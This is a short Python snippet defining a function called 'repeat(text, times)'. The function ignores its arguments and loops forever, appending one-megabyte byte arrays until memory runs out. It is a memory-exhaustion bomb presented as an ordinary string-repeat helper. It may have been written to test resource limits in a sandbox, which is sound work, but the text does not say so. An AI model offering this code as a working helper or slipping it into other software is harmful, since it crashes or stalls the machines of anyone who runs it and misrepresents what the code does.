def repeat(text, times):
    kept = []
    while True:
        kept.append(bytearray(b'x') * (1 << 20))
